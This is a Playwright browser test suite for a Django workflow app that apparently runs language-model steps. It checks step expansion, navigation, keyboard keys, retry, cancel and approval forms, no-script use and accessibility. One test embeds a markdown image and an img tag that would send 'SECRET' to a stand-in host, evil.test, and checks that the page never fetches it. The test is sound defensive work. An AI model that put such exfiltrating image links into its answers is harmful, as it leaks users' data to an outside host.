"""The pages in Chromium: what scripts do, what works without them, and that nobody is shut out.

No worker and no event stream here: the live parts are tested in tests/nyxcore/test_live_js.py and tests/processes.
"""

from __future__ import annotations

import re
from typing import Any

import pytest
from axe_playwright_python.sync_playwright import Axe
from django.conf import settings
from playwright.sync_api import Page, expect

from tests.browser import DESKTOP, PHONE
from tests.factories import make_user, make_workflow, step_of
from tests.workflows.engine_helpers import claim, finish
from tests.workflows.views.helpers import completed, cut, failed, streaming, url, waiting
from workflows import services
from workflows.models import Step, Workflow

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]


def many(count: int = 30, **fields: Any) -> Workflow:
    return make_workflow([{"key": f"s{n}", "title": f"Step number {n}"} for n in range(count)], **fields)


def open_ids(page: Page) -> list[str]:
    return [
        str(word)
        for word in page.locator("details.step[open]").evaluate_all("all => all.map((one) => one.id)")
    ]


def step_ids(workflow: Workflow) -> list[str]:
    return [f"step-{pk}" for pk in workflow.steps.order_by("position").values_list("pk", flat=True)]


# --- opening and closing --------------------------------------------------------------------------------------


def test_body_is_fetched_when_a_step_is_opened(page):
    workflow = make_workflow([{"key": "one"}, {"key": "two"}], start=True)
    finish(claim(), "The **first** answer.")
    page.goto(url("detail", workflow.pk))
    step = page.locator(f"#step-{step_of(workflow, 'one').pk}")
    expect(step.locator("strong")).to_have_count(0)
    step.locator("summary").first.click()
    expect(step.locator("strong")).to_have_text("first")


def test_expand_all_fetches_only_what_is_seen(page):
    workflow = many(60)
    asked = []
    page.on("request", lambda request: "part=body" in request.url and asked.append(request.url))
    page.goto(url("detail", workflow.pk))
    page.click("#expand-all")
    expect(page.locator("details.step[open]")).to_have_count(60)
    expect(page.locator(f"#{step_ids(workflow)[0]} .folds")).to_be_attached()
    page.wait_for_load_state("networkidle")
    assert 0 < len(asked) < 40
    page.click("#collapse-all")
    expect(page.locator("details.step[open]")).to_have_count(0)


def test_own_choice_wins_and_survives_reload(page):
    step = streaming()
    page.goto(url("detail", step.workflow_id))
    assert open_ids(page) == [step.dom_id]
    page.locator(f"#{step.dom_id} summary").first.click()
    other = step_of(step.workflow, "three")
    page.locator(f"#{other.dom_id} summary").first.click()
    page.reload()
    expect(page.locator(f"#{other.dom_id}")).to_have_attribute("open", "")
    assert open_ids(page) == [other.dom_id]


def test_choice_for_all_survives_reload(page):
    workflow = many(5)
    page.goto(url("detail", workflow.pk))
    page.click("#expand-all")
    page.reload()
    expect(page.locator("details.step[open]")).to_have_count(5)


# --- moving ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("viewport", [DESKTOP, PHONE], ids=["desktop", "phone"])
def test_deep_link_opens_scrolls_clear_of_the_bar_and_focuses(site, viewport):
    workflow = many(60)
    there = step_ids(workflow)[20]
    page = site.page(viewport=viewport, reduced_motion="reduce")
    page.goto(f"{url('detail', workflow.pk)}#{there}")
    step = page.locator(f"#{there}")
    expect(step).to_have_attribute("open", "")
    expect(step.locator("summary").first).to_be_focused()
    bar, line = page.locator("#step-nav").bounding_box(), step.bounding_box()
    assert bar["y"] == 0
    assert bar["height"] <= line["y"] <= bar["height"] + 40


def test_pill_leads_to_its_step_and_is_marked_and_seen(page):
    workflow = many()
    there = step_ids(workflow)[25]
    page.goto(url("detail", workflow.pk))
    page.evaluate("document.querySelector('.step-pills').scrollLeft = 1e6")
    pill = page.locator(f'.step-pill[href="#{there}"]')
    pill.click()
    expect(page.locator(f"#{there}")).to_have_attribute("open", "")
    expect(pill).to_have_attribute("aria-current", "true")
    expect(page.locator(".step-pill[aria-current]")).to_have_count(1)
    assert page.url.endswith(f"#{there}")


def test_pill_in_view_moves_on_as_one_scrolls(site):
    workflow = many(60)
    page = site.page(reduced_motion="reduce")
    page.goto(url("detail", workflow.pk))
    page.locator(f"#{step_ids(workflow)[40]}").evaluate(
        "(step) => scrollTo(0, step.getBoundingClientRect().top + scrollY - 60)"
    )
    current = page.locator(".step-pill[aria-current]")
    expect(current).to_have_attribute("title", re.compile(r"Step number (39|40|41)"))
    box, strip = current.bounding_box(), page.locator(".step-pills").bounding_box()
    assert strip["x"] <= box["x"]
    assert box["x"] + box["width"] <= strip["x"] + strip["width"]


def test_node_of_the_drawing_leads_to_its_step(page):
    workflow = many(3)
    there = step_ids(workflow)[1]
    page.goto(url("detail", workflow.pk))
    page.locator(f'a.node[href="#{there}"]').click()
    expect(page.locator(f"#{there}")).to_have_attribute("open", "")


def test_keys(page):
    workflow = make_workflow(
        [{"key": "one", "config": {"max_tokens": 50}}, {"key": "two"}, {"key": "three"}], start=True
    )
    finish(claim(), "Cut", stop_reason="max_tokens")
    first, second, _third = step_ids(workflow)
    page.goto(url("detail", workflow.pk))
    page.keyboard.press("e")
    expect(page.locator("details.step[open]")).to_have_count(3)
    page.keyboard.press("c")
    expect(page.locator("details.step[open]")).to_have_count(0)
    page.keyboard.press("n")
    expect(page.locator(f"#{first} summary").first).to_be_focused()
    page.keyboard.press("j")
    expect(page.locator(f"#{second} summary").first).to_be_focused()
    page.keyboard.press("k")
    expect(page.locator(f"#{first} summary").first).to_be_focused()
    page.keyboard.press("l")
    expect(page.locator("#follow")).to_have_attribute("aria-pressed", "true")
    page.keyboard.press("?")
    expect(page.locator("#keys")).to_be_visible()
    page.keyboard.press("Escape")
    expect(page.locator("#keys")).not_to_be_visible()


def test_keys_do_nothing_while_one_types(page):
    step = failed()
    page.goto(url("detail", step.workflow_id))
    page.get_by_text("Change and retry").click()
    page.locator("textarea[name=prompt]").press_sequentially(" eclj")
    assert open_ids(page) == [step.dom_id]


# --- acting ---------------------------------------------------------------------------------------------------


def test_start_changes_the_header_and_the_title_in_place(page):
    workflow = make_workflow()
    page.goto(url("detail", workflow.pk))
    page.get_by_role("button", name="Start").click()
    expect(page.locator("#run .status")).to_have_text("Running")
    expect(page).to_have_title(re.compile("^Running: "))
    assert "running.svg" in page.locator("#favicon").get_attribute("href")


def test_cancel_asks_first(page):
    step = streaming()
    page.goto(url("detail", step.workflow_id))
    page.get_by_role("button", name="Cancel").click()
    dialog = page.locator("dialog[open]")
    expect(dialog).to_contain_text("1 running step will be stopped")
    dialog.get_by_role("button", name="No, go back").click()
    assert Workflow.objects.get().status == "running"
    page.get_by_role("button", name="Cancel").click()
    page.locator("dialog[open]").get_by_role("button", name="Yes").click()
    expect(page.locator("#run .status")).to_have_text("Cancelled")


def test_retry_beside_a_closed_line_changes_the_row_and_its_pill(page):
    step = cut()
    page.goto(url("detail", step.workflow_id))
    page.click("#collapse-all")
    page.get_by_role("button", name="Retry with 200").click()
    expect(page.locator(f"#{step.dom_id}")).to_have_attribute("data-status", "running")
    expect(page.locator(f'.step-pill[href="#{step.dom_id}"]')).to_have_attribute("data-status", "running")
    expect(page.locator(f'.step-pill[href="#{step.dom_id}"] use')).to_have_attribute("href", "#s-running")
    expect(page.locator("#run .status")).to_have_text("Running")


def test_form_error_stands_beside_the_field_and_takes_the_focus(page):
    step = failed()
    page.goto(url("detail", step.workflow_id))
    page.get_by_text("Change and retry").click()
    page.fill("textarea[name=prompt]", "Use {{ steps.two.content }}")
    page.get_by_role("button", name="Retry with these changes").click()
    wrong = page.locator(".field.wrong")
    expect(wrong).to_contain_text("Line 1, column")
    expect(wrong.locator("textarea")).to_be_focused()
    expect(wrong.locator("textarea")).to_have_value("Use {{ steps.two.content }}")


def test_refusal_is_told_in_the_step(page):
    step = failed()
    page.goto(url("detail", step.workflow_id))
    services.retry_step(step, by=make_user())
    page.locator(".trouble").get_by_role("button", name="Retry").click()
    expect(page.locator(f"#{step.dom_id} .said")).to_contain_text("cannot be retried: it is running")


def test_gate_can_be_decided_on_the_page(page):
    step = waiting()
    page.goto(url("detail", step.workflow_id))
    page.get_by_text("Edit, then approve").click()
    page.fill("textarea[name=text]", "The better draft.")
    page.get_by_role("button", name="Approve the edited text").click()
    expect(page.locator(f"#{step.dom_id}")).to_have_attribute("data-status", "completed")
    assert Step.objects.get(pk=step.pk).output == "The better draft."


def refresh(page: Page, step: Step) -> None:
    """What live.js does when a hint for the step arrives."""
    page.evaluate(
        """(id) => {
          const row = document.querySelector(`[data-live-id="${id}"]`);
          return htmx.ajax("GET", row.dataset.src, { source: row, target: row, swap: "outerHTML" });
        }""",
        step.dom_id,
    )


def test_typed_text_open_folds_and_focus_outlive_a_refresh(page):
    step = waiting()
    page.goto(url("detail", step.workflow_id))
    page.get_by_text("Send back with a comment").click()
    page.locator("textarea[name=comment]").press_sequentially("Make it sho")
    refresh(page, step)
    area = page.locator("textarea[name=comment]")
    expect(area).to_have_value("Make it sho")
    expect(area).to_be_focused()
    assert open_ids(page) == [step.dom_id]


def test_text_typed_for_a_form_that_is_gone_is_kept(page):
    step = waiting()
    page.goto(url("detail", step.workflow_id))
    page.get_by_text("Send back with a comment").click()
    page.locator("textarea[name=comment]").press_sequentially("Make it shorter")
    services.approve_step(step, by=make_user())
    refresh(page, step)
    expect(page.locator(".changed textarea")).to_have_value("Make it shorter")


def test_settings_are_saved_in_place(page):
    workflow = make_workflow()
    page.goto(url("detail", workflow.pk))
    page.locator("#settings > summary").click()
    page.fill("#settings-form input[name=budget]", "0")
    page.get_by_role("button", name="Save").click()
    expect(page.locator("#settings-form .field.wrong")).to_contain_text("0.01")
    page.fill("#settings-form input[name=budget]", "2")
    page.get_by_role("button", name="Save").click()
    expect(page.locator("#settings-form")).to_contain_text("Saved.")
    assert Workflow.objects.get().budget == 2


def test_signed_out_reader_is_told_and_loses_nothing(site):
    step = waiting()
    page = site.page()
    page.goto(url("detail", step.workflow_id))
    page.get_by_text("Send back with a comment").click()
    page.locator("textarea[name=comment]").press_sequentially("Make it shorter")
    page.context.clear_cookies(name=settings.SESSION_COOKIE_NAME)
    page.get_by_role("button", name="Send back").click()
    expect(page.locator("#notice")).to_contain_text("You are signed out")
    expect(page.locator("textarea[name=comment]")).to_have_value("Make it shorter")


# --- reading --------------------------------------------------------------------------------------------------


def test_image_in_an_answer_is_never_asked_for(page):
    asked = []
    page.on("request", lambda request: asked.append(request.url))
    workflow = completed("![x](https://evil.test/?q=SECRET) <img src=https://evil.test/2>")
    page.goto(url("detail", workflow.pk))
    expect(page.locator(".prose")).to_contain_text("evil.test")
    assert not [address for address in asked if "evil.test" in address]


def test_theme_is_kept_and_there_at_the_first_byte(page):
    page.goto(url("list"))
    page.get_by_role("button", name="Dark").click()
    assert page.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(15, 19, 25)"
    response = page.reload()
    assert 'data-theme="dark"' in response.text()
    page.get_by_role("button", name="As the system").click()
    assert '<html lang="en">' in page.reload().text()


def test_filter_and_search_stand_in_the_address(page):
    completed(name="Old one")
    make_workflow(name="New one")
    page.goto(url("list"))
    page.fill("#search", "old")
    expect(page.locator(".run-name")).to_have_text(["Old one"])
    expect(page).to_have_url(re.compile("q=old"))
    page.reload()
    expect(page.locator(".run-name")).to_have_text(["Old one"])


def test_without_scripts_one_can_read_and_start(site):
    workflow = make_workflow([{"key": "one"}], start=True)
    finish(claim(), "The **answer**.")
    pending = make_workflow()
    page = site.page(java_script_enabled=False)
    page.goto(url("detail", workflow.pk))
    expect(page.locator(".prose strong")).to_have_text("answer")
    page.locator(".own-page").first.click()
    expect(page.locator(".prose strong")).to_have_text("answer")
    page.goto(url("detail", pending.pk))
    page.get_by_role("button", name="Start").click()
    expect(page.locator("#run .status")).to_have_text("Running")


def test_new_workflow_from_card_to_page(page):
    page.goto(url("new"))
    page.get_by_role("link", name="Use Extend & Improve").click()
    page.get_by_role("button", name="Create and start").click()
    expect(page.locator(".field.wrong").first).to_contain_text("is required")
    page.locator("textarea").first.fill("A text of mine.")
    page.get_by_role("button", name="Create and start").click()
    expect(page.locator("#run .status")).to_have_text("Running")


def test_second_click_does_not_send_a_form_again(page):
    """However slow the server is: here it is never asked."""
    page.goto(f"{url('new')}?template=extend-improve")
    page.evaluate(
        """() => {
          window.stopped = [];
          addEventListener("submit", (event) => {
            stopped.push(event.defaultPrevented);
            event.preventDefault();
          });
        }"""
    )
    button = page.get_by_role("button", name="Create and start")
    button.click()
    button.click()
    assert page.evaluate("stopped") == [False, True]


def test_double_click_makes_one_run(page):
    page.goto(f"{url('new')}?template=extend-improve")
    page.locator("textarea").first.fill("A text of mine.")
    page.get_by_role("button", name="Create and start").dblclick()
    expect(page.locator("#run .status")).to_have_text("Running")
    assert Workflow.objects.count() == 1


@pytest.mark.parametrize(
    ("viewport", "scheme"), [(DESKTOP, "dark"), (PHONE, "light")], ids=["desktop dark", "phone light"]
)
def test_no_page_shuts_anybody_out(site, scheme, viewport):
    """axe finds nothing, with every fold open, and nothing sticks out sideways."""
    runs = [
        cut("# Cut\n\n| a | b |\n|--|--|\n| 1 | 2 |").workflow,
        waiting().workflow,
        failed().workflow,
        streaming().workflow,
    ]
    paths = [url("detail", run.pk) for run in runs]
    alone = [step.get_absolute_url() for step in Step.objects.filter(workflow__in=runs, position=1)]
    page = site.page(viewport=viewport, color_scheme=scheme, bypass_csp=True)
    for path in [
        url("list"),
        url("new"),
        f"{url('new')}?template=deep-build",
        *paths,
        *alone,
        url("settings", runs[0].pk),
        "/accounts/password/",
    ]:
        page.goto(path)
        if path in paths:
            page.click("#expand-all")
            page.wait_for_load_state("networkidle")
            page.evaluate(
                "document.querySelectorAll('details.fold').forEach((fold) => { fold.open = true; })"
            )
            page.wait_for_load_state("networkidle")
        found = Axe().run(page).response["violations"]
        assert [(path, rule["id"], rule["nodes"][0]["html"]) for rule in found] == []
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), path
